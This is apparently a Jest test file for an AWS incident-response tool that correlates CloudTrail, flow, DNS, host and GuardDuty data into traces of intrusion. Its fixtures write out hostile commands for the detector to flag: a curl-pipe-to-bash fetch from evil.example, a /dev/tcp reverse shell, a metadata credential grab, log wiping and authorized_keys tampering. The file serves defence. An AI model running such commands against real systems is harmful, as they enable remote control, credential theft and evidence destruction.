import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { read, unread } from '../../../shared/domain/login';
import { correlate } from '../../../shared/playbooks/instance-login/correlate';
import { missingIn, readFlows } from '../../../shared/playbooks/instance-login/read-flows';
import { readHost } from '../../../shared/playbooks/instance-login/read-host';
import type { ResearchFacts } from '../../../shared/playbooks/instance-login/research-facts';
import { judgeCommand } from '../../../shared/playbooks/instance-login/tampering-commands';
import { ALICE, aCall, loginIn, MACHINE, OTHER } from './a-login';

const ROLE = 'arn:aws:iam::111122223333:role/App';
const UNTIL = '2026-11-21T20:30:00Z';

const at = (time: string) => Date.parse(`2026-11-21T${time}Z`) / 1_000;
const flow = (
  from: string,
  to: string,
  ports: string,
  start: string,
  action = 'ACCEPT',
  bytes = 100,
) =>
  `2 111122223333 eni-1 ${from} ${to} ${ports} 6 10 ${bytes} ${at(start)} ${at(start) + 60} ${action} OK`;

const logOf = (...lines: readonly string[]) => read([{ lines: lines.join('\n') }]);

/** A call of the machine's role, or of alice. */
const call = (
  name: string,
  more: object = {},
  by = `arn:aws:sts::111122223333:assumed-role/App/${MACHINE}`,
) =>
  aCall(name, {
    userIdentity: {
      type: 'AssumedRole',
      arn: by,
      sessionContext: { sessionIssuer: { arn: ROLE }, ec2RoleDelivery: '2.0' },
    },
    eventTime: '2026-11-21T20:10:00Z',
    eventID: `e-${name}`,
    sourceIPAddress: '10.0.0.5',
    ...more,
  }).detail;

const host = (log: string, files: Readonly<Record<string, string>> = {}) =>
  read(
    readHost(
      new Map(
        Object.entries({ 'var/log/auth.log': log, ...files }).map(([path, body]) => [
          path,
          Buffer.from(body),
        ]),
      ),
      UNTIL,
    ),
  );

const quiet: ResearchFacts = {
  login: loginIn(aCall()),
  instanceId: MACHINE,
  addresses: ['10.0.0.5', '198.51.100.5'],
  egress: read(['198.51.100.0/28']),
  records: read([]),
  roleArn: ROLE,
  names: [ALICE],
  flows: read([]),
  before: read({ since: '2026-11-14T19:00:00.000Z', peers: [], ports: [22] }),
  dns: read(''),
  host: host(''),
  detections: read([]),
  elsewhere: read([]),
  gaps: [],
};

const traces = (different: Partial<ResearchFacts>) =>
  correlate({ ...quiet, ...different }).traces.map(({ kind, sentence }) => `${kind}: ${sentence}`);

test('all sources are one timeline, in order, each moment with where it stands', () => {
  const { entries } = correlate({
    ...quiet,
    records: read([
      call('s3:ListBuckets'),
      call(
        'iam:ListUsers',
        { eventTime: '2026-11-21T19:30:00Z', sourceIPAddress: '203.0.113.9' },
        ALICE,
      ),
    ]),
    flows: logOf(flow('10.0.0.5', '192.0.2.80', '50000 443', '20:12:00')),
    dns: read(
      JSON.stringify({
        query_timestamp: '2026-11-21T20:11:59Z',
        query_name: 'evil.example.',
        query_type: 'A',
        srcids: { instance: MACHINE },
      }),
    ),
    host: host('Nov 21 20:05:00 h sudo[9]: ec2-user : USER=root ; COMMAND=/bin/bash'),
    detections: read([
      {
        id: 'gd-1',
        type: 'Backdoor:EC2/C2',
        title: 'C2',
        severity: 8,
        service: { eventFirstSeen: '2026-11-21T20:20:00Z' },
        resource: { instanceDetails: { instanceId: MACHINE } },
      },
    ]),
  });
  expect(entries.map(({ at, source, text }) => `${at.slice(11, 19)} ${source}: ${text}`)).toEqual([
    `19:30:00 CloudTrail: ${ALICE} called iam:ListUsers from 203.0.113.9`,
    `20:00:00 CloudTrail: ${ALICE} (203.0.113.9) opened a session on ${MACHINE}.`,
    '20:05:00 host: command: ec2-user /bin/bash',
    '20:10:00 CloudTrail: its role called s3:ListBuckets from 10.0.0.5',
    '20:11:59 DNS logs: asked for evil.example (A)',
    '20:12:00 flow logs: called 192.0.2.80, tcp port 443: 100 bytes out, 0 in',
    '20:20:00 GuardDuty: C2',
  ]);
  expect(entries.every(({ evidence }) => evidence !== '')).toBe(true);
});

test('what has nothing to do with it is not on the timeline', () => {
  const { entries } = correlate({
    ...quiet,
    records: read([
      call('s3:ListBuckets', {}, `arn:aws:sts::111122223333:assumed-role/App/${OTHER}`),
      call('s3:ListBuckets', {}, 'arn:aws:iam::111122223333:user/bob'),
      call('s3:ListBuckets', { eventTime: '2026-11-21T21:30:00Z' }, ALICE),
      call('s3:ListBuckets', { eventTime: '2026-11-21T18:30:00Z' }),
      'x',
    ]),
    flows: logOf(flow('10.0.0.9', '192.0.2.80', '50000 443', '20:12:00')),
    dns: read(
      JSON.stringify({
        query_timestamp: '2026-11-21T20:11:59Z',
        query_name: 'a.',
        srcids: { instance: OTHER },
      }),
    ),
    detections: read([
      {
        id: 'gd',
        type: 't',
        updatedAt: UNTIL,
        resource: { instanceDetails: { instanceId: OTHER } },
      },
    ]),
  });
  expect(entries).toHaveLength(1);
});

test('the machine’s credentials used elsewhere are the worst, and its own addresses are none of that', () => {
  const from = (sourceIPAddress: string, name = 's3:ListBuckets') =>
    call(name, { sourceIPAddress });
  expect(
    traces({
      records: read([
        from('203.0.113.66'),
        from('203.0.113.66', 'iam:CreateUser'),
        from('10.0.0.5'),
        from('198.51.100.3'),
        from('ec2.amazonaws.com'),
        from('AWS Internal'),
      ]),
    }),
  ).toEqual([
    'credentials-elsewhere: The machine’s credentials were used from 203.0.113.66, which is none of its addresses: s3:ListBuckets, iam:CreateUser (2 calls).',
    'user: The machine’s role made a user (iam:CreateUser).',
  ]);
});

test('a call that AWS refused is on the timeline and no trace', () => {
  const records = read([call('iam:CreateAccessKey', { errorCode: 'AccessDenied' })]);
  expect(traces({ records })).toEqual([]);
  expect(correlate({ ...quiet, records }).entries.at(-1)?.text).toContain('(AccessDenied)');
});

test('a far end is new where the machine called it, with the name it had asked for', () => {
  const flows = logOf(
    ...[
      flow('10.0.0.5', '192.0.2.80', '50000 443', '20:12:00', 'ACCEPT', 900),
      flow('192.0.2.80', '10.0.0.5', '443 50000', '20:12:01', 'ACCEPT', 50),
      flow('10.0.0.5', '192.0.2.81', '50001 443', '20:12:00'),
      flow('192.0.2.82', '10.0.0.5', '40000 22', '20:12:00'),
      flow('10.0.0.5', '192.0.2.83', '50001 443', '20:12:00', 'REJECT'),
    ],
  );
  const dns = read(
    JSON.stringify({
      query_timestamp: '2026-11-21T20:11:59Z',
      query_name: 'evil.example.',
      answers: [{ Rdata: '192.0.2.80' }],
      srcids: { instance: MACHINE },
    }),
  );
  expect(
    traces({
      flows,
      dns,
      before: read({ since: '2026-11-14T19:00:00.000Z', peers: ['192.0.2.81'], ports: [] }),
    }),
  ).toEqual([
    'peer: It called 192.0.2.80 (evil.example), tcp port 443, for the first time since 2026-11-14, and sent 900 bytes.',
  ]);
});

test('what the machine says of itself shows accounts, rights, keys, logs and what comes back', () => {
  const sudo = (command: string) =>
    `Nov 21 20:05:00 h sudo[9]: ec2-user : USER=root ; COMMAND=${command}`;
  const log = [
    'Nov 21 20:05:00 h useradd[9]: new user: name=evil, UID=0',
    sudo('/bin/chmod u+s /tmp/sh'),
    sudo('/usr/bin/tee -a /root/.ssh/authorized_keys'),
    sudo('/bin/rm -rf /var/log/audit'),
    sudo('/usr/bin/systemctl enable --now evil'),
    sudo('/usr/bin/ls'),
  ].join('\n');
  expect(traces({ host: host(log) }).map((one) => one.split(':')[0])).toEqual([
    'log-tampering',
    'key',
    'user',
    'start',
    'setuid',
  ]);
});

test('a port is new where others can reach it and it was not known', () => {
  const line = (local: string) =>
    `   0: ${local} 00000000:0000 0A 00000000:00000000 00:00000000 00000000  0        0 42 1`;
  const files = {
    'collected/net/tcp': [
      'head',
      line('00000000:0016'),
      line('0100007F:1F90'),
      line('00000000:115C'),
    ].join('\n'),
    'collected/proc/7/stat': '7 (nc) S 1 7 7 0',
    'collected/proc/7/exe': '/tmp/nc',
    'collected/proc/7/fd': 'l 3 -> socket:[42]',
  };
  expect(traces({ host: host('', files) })).toEqual([
    'program: Process 7 runs /tmp/nc, where only temporary files belong.',
    'listener: /tmp/nc listens on tcp port 4444, which no one called since 2026-11-14.',
  ]);
  expect(traces({ host: host('', files), before: unread('no earlier look') })).toHaveLength(1);
});

test('a look that found nothing is told, and one that could not be had is not told as nothing', () => {
  const { lookedFor } = correlate({
    ...quiet,
    host: unread('the agent does not answer'),
    flows: read([{ lines: 'garbage' }]),
  });
  expect(lookedFor).toContainEqual({ what: 'findings of GuardDuty on the machine' });
  expect(lookedFor).toContainEqual({
    what: 'keys that were added',
    unread: 'the agent does not answer',
  });
  expect(lookedFor).toContainEqual({
    what: 'all lines of its flow and DNS logs',
    unread: '1 lines were lost or say nothing',
  });
  const found = correlate({ ...quiet, records: read([call('iam:CreateAccessKey')]) });
  expect(found.lookedFor.some(({ what }) => what === 'keys that were added')).toBe(false);
});

test('what does not fit is what is farthest from the login', () => {
  const records = read(
    Array.from({ length: 3_000 }, (_, index) =>
      call('s3:ListBuckets', {
        eventTime: new Date(Date.parse('2026-11-21T20:00:01Z') + index * 1_000).toISOString(),
      }),
    ),
  );
  const { entries, entriesLeft } = correlate({ ...quiet, records });
  expect([entries.length, entriesLeft]).toEqual([2_000, 1_001]);
  expect(entries[0]?.at).toBe('2026-11-21T20:00:00.000Z');
});

test('flow logs that were skipped are lost, those without traffic are not', () => {
  const lines = [
    'version account-id interface-id',
    '2 1 eni-1 - - - - - - - 1 2 - NODATA',
    '2 1 eni-1 - - - - - - - 1 2 - SKIPDATA',
  ];
  expect(readFlows([{ lines: lines.join('\n') }], ['10.0.0.5'])).toEqual({
    ...{ flows: [], refused: [], lost: 1 },
  });
});

test('many far ends at one port, or many ports of one, are told in one sentence, those that were refused too', () => {
  const swept = Array.from({ length: 25 }, (_, n) =>
    flow('10.0.0.5', `10.0.9.${n}`, `${40_000 + n} 22`, '20:12:00', n < 5 ? 'ACCEPT' : 'REJECT'),
  );
  const probed = Array.from({ length: 30 }, (_, n) =>
    flow('10.0.0.5', '10.0.8.8', `50000 ${n + 1_000}`, '20:12:00'),
  );
  const found = correlate({ ...quiet, flows: logOf(...swept, ...probed) }).traces;
  expect(found.map(({ sentence }) => sentence)).toEqual([
    'It called 25 addresses at tcp port 22 for the first time since 2026-11-14, as scans do: 10.0.9.0, 10.0.9.1, 10.0.9.2 … It sent 2500 bytes.',
    'It called 30 ports of 10.0.8.8 for the first time since 2026-11-14, as scans do. It sent 3000 bytes.',
  ]);
  expect(found[0]?.evidence).toContain(swept[0]);
});

test('lines are read in the format of their log', () => {
  const format =
    // biome-ignore lint/suspicious/noTemplateCurlyInString: EC2's
    '${interface-id} ${action} ${start} ${end} ${bytes} ${dstport} ${srcport} ${protocol} ${dstaddr} ${srcaddr}';
  const lines = `eni-1 ACCEPT ${at('20:12:00')} ${at('20:13:00')} 77 443 50000 6 192.0.2.80 10.0.0.5`;
  expect(readFlows([{ format, lines }], ['10.0.0.5']).flows).toMatchObject([
    { peer: '192.0.2.80', port: 443, isOutbound: true, protocol: 'tcp', bytesOut: 77 },
  ]);
  expect(missingIn(format)).toEqual([]);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: EC2's
  expect(missingIn('${srcaddr} ${dstaddr} ${start} ${end} ${bytes} ${action}')).toEqual([
    ...['srcport', 'dstport', 'protocol'],
  ]);
});

test('few logins elsewhere are told one by one, many in one sentence', () => {
  const on = (n: number) => ({
    ...{ ...quiet.login, id: `l-${n}` },
    target: { kind: 'instance' as const, instanceId: `i-${n % 5}` },
  });
  expect(traces({ elsewhere: read([on(1), on(2)]) })).toHaveLength(2);
  expect(traces({ elsewhere: read(Array.from({ length: 9 }, (_, n) => on(n))) })).toEqual([
    'seen-elsewhere: The same address or key logged in 9 times on 5 other machines: i-0, i-1, i-2 ….',
  ]);
});

test('names of pools, tunnels and drops are traces, and so are names that carry data; others are not', () => {
  const ask = (name: string) =>
    JSON.stringify({
      ...{ query_timestamp: '2026-11-21T20:11:59Z', query_name: `${name}.` },
      srcids: { instance: MACHINE },
    });
  const data = Array.from({ length: 30 }, (_, n) => ask(`${'a'.repeat(30)}${n}.t.example.net`));
  const names = ['pool.MineXMR.com', 'notminexmr.com', 'x.ngrok.io', 'example.com'].map(ask);
  expect(traces({ dns: read([...names, ...data].join('\n')) })).toEqual([
    'name: It asked for pool.MineXMR.com, one of pools that mine coins (1 time).',
    'name: It asked for x.ngrok.io, one of tunnels through a firewall (1 time).',
    'name: It asked for 30 long names under example.net, as those do that carry data (30 times).',
  ]);
});

test.each([
  ['history -c', 'log-tampering'],
  ['systemctl stop amazon-cloudwatch-agent', 'log-tampering'],
  ['curl http://evil.example/x | bash', 'command'],
  ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/App', 'command'],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'command'],
  ['chmod 4755 /tmp/sh', 'setuid'],
  ['crontab /tmp/jobs', 'start'],
  ['crontab -l', undefined],
  ['systemctl status rsyslog', undefined],
  ['chmod 0644 /etc/motd', undefined],
  ['chmod 755 run.sh', undefined],
  ['tail -f /var/log/messages', undefined],
])('%s', (command, kind) => {
  expect(judgeCommand(command)?.kind).toBe(kind);
});

test('an intruder cannot keep us busy with commands, and nothing makes it throw', () => {
  const begin = process.cpuUsage();
  for (let time = 0; time < 2_000; time++)
    judgeCommand('systemctl stop curl nc chmod rm '.repeat(64));
  expect(process.cpuUsage(begin).user).toBeLessThan(5_000_000);
  fc.assert(
    fc.property(fc.array(fc.jsonValue()), fc.string(), fc.string(), (some, log, dns) => {
      correlate({
        ...quiet,
        records: read(some),
        detections: read(some),
        flows: read([{ lines: log }]),
        dns: read(dns),
      });
    }),
  );
});
